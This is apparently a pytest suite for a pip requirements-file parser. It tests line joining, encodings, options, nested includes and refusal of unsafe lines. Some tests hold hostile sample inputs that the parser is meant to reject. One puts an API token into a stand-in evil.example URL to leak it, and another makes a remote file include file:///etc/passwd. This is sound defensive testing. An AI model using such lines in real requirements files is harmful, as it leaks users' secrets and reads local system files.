from __future__ import annotations

from pathlib import Path

import pytest

from weighlock.errors import SourceError, UsageError
from weighlock.sources.pip.reading import Reading


def read(folder: Path, files: dict[str, str | bytes], **more: object) -> Reading:
    for name, text in files.items():
        place = folder / name
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(text if isinstance(text, bytes) else text.encode())
    reading = Reading(environ=more.pop("environ", {}), fetch=more.pop("fetch", _no_network))
    reading.read(str(folder / next(iter(files))), constraint=False, **more)
    return reading


def _no_network(url: str) -> bytes:
    raise SourceError("no network", where=url)


def lines(reading: Reading) -> list[str]:
    return [wanted.line for wanted in reading.wanted]


def test_a_file_behind_a_url_cannot_read_variables_of_this_machine(tmp_path: Path):
    evil = b"--extra-index-url https://evil.example/${API_TOKEN}/simple\nx"
    for text in (evil, b"x @ https://evil.example/${API_TOKEN}/x-1-py3-none-any.whl", b"-r ${API_TOKEN}.txt"):
        with pytest.raises(UsageError, match="API_TOKEN"):
            read(
                tmp_path,
                {"r.txt": "-r https://host.example/a.txt"},
                fetch=lambda _url, text=text: text,
                environ={"API_TOKEN": "secret"},
            )
    files = {"r.txt": "-r https://host.example/${WHICH}.txt"}
    assert lines(read(tmp_path, files, fetch=lambda _url: b"x==1", environ={"WHICH": "a"})) == ["x==1"]


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("--no-binary :all:\nx", "no-binary"),
        ("--no-b=x\nx", "no-binary"),
        ("x --no-binary x", "no-binary"),
        ("x --config-settings=a=b", "config-settings"),
        ("x --config-setting a=b", "config-settings"),
        ("x --global-option=a", "global-option"),
        ("x --install-option=a", "install-option"),
        ("--use-feature=inprocess-build-deps", "use-feature"),
        ("x --pre", "ignore"),
        ("x --index-url=https://host.example", "ignore"),
        ("--pre x", "ignore"),
        ("-r a.txt -r b.txt", "only the first"),
        ("-r a.txt --pre", "only the first"),
        ("-e . -e ..", "only the first"),
        ("--target=/", "no such option"),
        ("--python=/evil", "no such option"),
        ("-r r.txt", "nested"),
        ("--hash 'sha256:0", "quotes"),
        ("-c nowhere.txt", "cannot be read"),
        ("-r https://host.example/r.txt", "no network"),
    ],
)
def test_a_line_that_cannot_be_honoured_is_refused(tmp_path: Path, text: str, why: str):
    with pytest.raises((UsageError, SourceError), match=why) as caught:
        read(tmp_path, {"r.txt": text})
    assert caught.value.where


def test_a_file_behind_a_url_cannot_name_one_on_this_machine(tmp_path: Path):
    with pytest.raises(UsageError, match="on this machine"):
        read(tmp_path, {"r.txt": "-r https://host.example/a.txt"}, fetch=lambda url: b"-r file:///etc/passwd")


def test_files_that_name_each_other_end(tmp_path: Path):
    with pytest.raises(UsageError, match="nested"):
        read(tmp_path, {"a.txt": "-r b.txt", "b.txt": "-r ./x/../a.txt"})


def test_very_many_files_end(tmp_path: Path):
    with pytest.raises(UsageError, match="nested"):
        read(tmp_path, {"a.txt": "-r b.txt\n" * 600, "b.txt": ""})


def test_a_constraint_cannot_be_editable(tmp_path: Path):
    with pytest.raises(UsageError, match="editable"):
        read(tmp_path, {"a.txt": "-c c.txt", "c.txt": "-e ."})


@pytest.mark.parametrize(
    "data", [b"\xff\xfex\x00\x00", b"# coding: nonsense\nx", b"# coding: zlib\nx", b"# coding: utf-8\n\xff"]
)
def test_a_file_in_no_encoding_is_refused(tmp_path: Path, data: bytes):
    with pytest.raises(UsageError, match="encoding"):
        read(tmp_path, {"r.txt": data})


def test_lines_are_joined_and_cut_as_pip_does(tmp_path: Path):
    text = (
        "a # one\n# b\\\nc\\\n>=1\\\n,<2\n d==1 \\\n    --hash=sha256:00 \\\n  --hash sha256:11\ne#f @ x\\\n# end\\\n"
    )
    with pytest.raises(UsageError, match="e#f"):
        read(tmp_path, {"r.txt": text})
    reading = read(tmp_path, {"r.txt": text.replace("e#f @ x", "e")})
    assert lines(reading) == ["a", "c<2,>=1", "d==1 --hash=sha256:00 --hash=sha256:11", "e"]
    assert [wanted.origin.line for wanted in reading.wanted] == [1, 3, 6, 9]


def test_other_line_ends_are_line_ends(tmp_path: Path):
    reading = read(tmp_path, {"r.txt": "a\x0bb\x0c-e .\u2028c\x85d\r\ne"})
    assert lines(reading) == ["a", "b", "c", "d", "e"]
    assert len(reading.builds) == 1


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-32"])
def test_a_byte_order_mark_says_the_encoding(tmp_path: Path, encoding: str):
    assert lines(read(tmp_path, {"r.txt": "a\n-e .\nb".encode(encoding)})) == ["a", "b"]


def test_variables_are_filled_in_once(tmp_path: Path):
    files = {"r.txt": "${NAME}==${NONE}1\n--index-url=https://${USER}@host.example/${EMPTY}"}
    with pytest.raises(UsageError, match="is no requirement"):
        read(tmp_path, files, environ={"NAME": "x"})
    reading = read(tmp_path, {"r.txt": "${NAME}\n$NAME_2"[:7]}, environ={"NAME": "x", "EMPTY": ""})
    assert lines(reading) == ["x"]


def test_options_are_set_as_pip_sets_them(tmp_path: Path):
    reading = read(
        tmp_path,
        {
            "r.txt": "--extra-index-url https://one.example/\n-i https://two.example\n"
            "--extra-index-url=https://three.example\n"
            "--pre --trusted-host h\n-f ./links\n"
            "--prefer-binary\n--only-binary=:all:\n--no-binary=:none:\n--require-hashes",
            "links/x": "",
        },
    )
    assert (reading.index, reading.extra) == ("https://two.example", ["https://three.example"])
    assert reading.find_links == [str(tmp_path / "links")]
    assert reading.trusted_hosts == ["h"]
    assert reading.passed == ["--pre", "--require-hashes"]


def test_nested_files_are_beside_the_one_that_names_them(tmp_path: Path):
    files = {"a/r.txt": "-r../b/s.txt\n-c c.txt\nx", "b/s.txt": "y", "a/c.txt": "z==1"}
    reading = read(tmp_path, files)
    assert lines(reading) == ["y", "x"]
    assert [constraint.line for constraint in reading.constraints] == ["z==1"]
    assert reading.wanted[0].origin.path == str(tmp_path / "b" / "s.txt")


def test_nested_urls_are_beside_the_one_that_names_them(tmp_path: Path):
    answers = {"https://u:p@host.example/a/r.txt": b"-c ../c.txt\nx", "https://u:p@host.example/c.txt": b"x==1"}
    reading = read(tmp_path, {"r.txt": "-r https://u:p@host.example/a/r.txt"}, fetch=lambda url: answers[url])
    assert [constraint.line for constraint in reading.constraints] == ["x==1"]
    assert reading.wanted[0].origin.path == "https://****@host.example/a/r.txt"
